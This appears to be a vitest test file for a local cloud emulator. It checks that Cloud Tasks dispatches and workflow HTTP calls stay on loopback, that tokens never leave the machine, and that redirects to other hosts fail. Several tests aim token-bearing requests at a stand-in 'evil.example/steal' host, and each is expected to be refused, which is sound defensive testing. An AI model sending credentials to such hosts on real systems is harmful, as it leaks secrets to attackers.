/**
 * What leaves the machine (docs/security.md, "Local stack"): local-cloud as
 * a process (src/main.ts) whose every non-loopback request goes through a
 * recording proxy (NODE_USE_ENV_PROXY), so the test sees what another host
 * would receive. Tasks and workflow calls reach only loopback hosts unless
 * LOCAL_CLOUD_OUTBOUND_HOSTS allows one, and no token ever leaves loopback;
 * the OAuth token goes only to local-cloud itself.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  api,
  PARENT,
  type RecordingProxy,
  removeDir,
  startRecordingProxy,
  startTarget,
  type Target,
  tempDir,
  waitFor,
} from './helpers.ts';
import { type MainProcess, startMain } from './main-process.ts';

const OIDC = 'oidc-stand-in-for-the-callback-secret-0123456789';
const QUEUE = `${PARENT}/queues/out`;
let dir: string;
let proxy: RecordingProxy;
let target: Target;
let main: MainProcess | undefined;
let cloud: { url: string; oauthToken: string };
let seq = 0;

beforeAll(async () => {
  dir = tempDir();
  proxy = await startRecordingProxy();
  target = await startTarget();
  const data = join(dir, 'data');
  main = await startMain(data, {
    LOCAL_CLOUD_OIDC_TOKEN: OIDC,
    LOCAL_CLOUD_OUTBOUND_HOSTS: 'hooks.example',
    // Everything not on loopback goes through the recording proxy.
    NODE_USE_ENV_PROXY: '1',
    HTTP_PROXY: proxy.url,
    HTTPS_PROXY: proxy.url,
    NO_PROXY: '127.0.0.1,localhost',
  });
  cloud = { url: main.url, oauthToken: main.oauthToken };
  const queue = await api(cloud, 'POST', `/v2/${PARENT}/queues`, {
    name: QUEUE,
    retryConfig: { maxAttempts: 1 },
  });
  expect(queue.status, JSON.stringify(queue)).toBe(200);
});
afterAll(async () => {
  if (main && main.child.exitCode === null) {
    main.child.kill('SIGTERM');
    await main.exited;
  }
  await proxy?.close();
  await target?.close();
  removeDir(dir);
});

function task(url: string, token: 'oidcToken' | 'oauthToken') {
  return {
    task: {
      name: `${QUEUE}/tasks/t${++seq}`,
      httpRequest: {
        url,
        body: Buffer.from('{"x":1}').toString('base64'),
        [token]: { serviceAccountEmail: 'sa@p1.iam.gserviceaccount.com' },
      },
    },
  };
}

async function runWorkflow(
  source: string,
): Promise<{ state: string; error?: { payload: string } }> {
  const id = `wf-${++seq}`;
  const deployed = await api(cloud, 'POST', `/v1/${PARENT}/workflows?workflowId=${id}`, {
    sourceContents: source,
  });
  expect(deployed.status, JSON.stringify(deployed)).toBe(200);
  const started = await api(cloud, 'POST', `/v1/${PARENT}/workflows/${id}/executions`, {});
  expect(started.status, JSON.stringify(started)).toBe(200);
  return waitFor(async () => {
    const e = await api(cloud, 'GET', `/v1/${started.body.name}`);
    return e.body.state === 'ACTIVE' ? undefined : e.body;
  }, 'the execution');
}

describe('Cloud Tasks dispatches stay on this machine', () => {
  it('refuses a task to a host that is not loopback, so no token can be sent there', async () => {
    for (const token of ['oidcToken', 'oauthToken'] as const) {
      const res = await api(
        cloud,
        'POST',
        `/v2/${QUEUE}/tasks`,
        task('http://evil.example/steal', token),
      );
      expect(res, JSON.stringify(res)).toMatchObject({
        status: 403,
        body: { error: { status: 'PERMISSION_DENIED' } },
      });
      expect(res.body.error.message).toContain('LOCAL_CLOUD_OUTBOUND_HOSTS');
    }
    // A loopback task sent afterwards proves the dispatcher ran; nothing reached the proxy.
    await api(cloud, 'POST', `/v2/${QUEUE}/tasks`, task(`${target.url}/probe`, 'oidcToken'));
    await waitFor(() => target.received.find((r) => r.url === '/probe'), 'the loopback task');
    expect(proxy.received.filter((r) => r.host.startsWith('evil.example'))).toEqual([]);
  });

  it('sends a task to an allowed host without any token', async () => {
    for (const token of ['oidcToken', 'oauthToken'] as const) {
      const res = await api(
        cloud,
        'POST',
        `/v2/${QUEUE}/tasks`,
        task(`http://hooks.example/${token}`, token),
      );
      expect(res.status, JSON.stringify(res)).toBe(200);
      const got = await waitFor(
        () => proxy.received.find((r) => r.url === `/${token}`),
        `the ${token} task at the allowed host`,
      );
      expect(got.host).toBe('hooks.example');
      expect(got.headers.authorization).toBeUndefined();
      expect(got.body).toBe('{"x":1}');
    }
  });

  it('sends the OIDC token to loopback targets and the OAuth token only to local-cloud itself', async () => {
    await api(cloud, 'POST', `/v2/${QUEUE}/tasks`, task(`${target.url}/oidc`, 'oidcToken'));
    await api(cloud, 'POST', `/v2/${QUEUE}/tasks`, task(`${target.url}/oauth`, 'oauthToken'));
    const oidc = await waitFor(() => target.received.find((r) => r.url === '/oidc'), 'oidc');
    const oauth = await waitFor(() => target.received.find((r) => r.url === '/oauth'), 'oauth');
    expect(oidc.headers.authorization).toBe(`Bearer ${OIDC}`);
    expect(oauth.headers.authorization).toBeUndefined();
  });
});

describe('workflow http calls stay on this machine', () => {
  it('fails a call to a host that is not loopback before sending anything', async () => {
    const done = await runWorkflow(`
main:
  steps:
    - call:
        call: http.get
        args:
          url: http://evil.example/steal
          auth:
            type: OIDC
        result: r
    - done:
        return: \${r.code}
`);
    expect(done.state).toBe('FAILED');
    expect(JSON.parse(done.error?.payload ?? '{}')).toMatchObject({
      tags: ['ConnectionFailedError'],
      message: expect.stringContaining('loopback'),
    });
    expect(proxy.received.filter((r) => r.host.startsWith('evil.example'))).toEqual([]);
  });

  it('refuses a redirect from a loopback host to another host', async () => {
    // A loopback server that redirects to a host the policy does not allow.
    const server = createServer((_req, res) => {
      res.writeHead(302, { location: 'http://evil.example/after-redirect' }).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      const done = await runWorkflow(`
main:
  steps:
    - call:
        call: http.get
        args:
          url: http://127.0.0.1:${port}/start
          auth:
            type: OIDC
        result: r
    - done:
        return: \${r.code}
`);
      expect(done.state).toBe('FAILED');
      expect(done.error?.payload).toContain('evil.example');
      expect(proxy.received.filter((r) => r.url === '/after-redirect')).toEqual([]);
    } finally {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    }
  });

  it('calls an allowed host without the token the workflow asked for', async () => {
    const done = await runWorkflow(`
main:
  steps:
    - call:
        call: http.post
        args:
          url: http://hooks.example/from-workflow
          auth:
            type: OIDC
          body:
            hello: 1
        result: r
    - done:
        return: \${r.code}
`);
    expect(done.state, JSON.stringify(done)).toBe('SUCCEEDED');
    const got = proxy.received.find((r) => r.url === '/from-workflow');
    expect(got?.headers.authorization).toBeUndefined();
  });
});
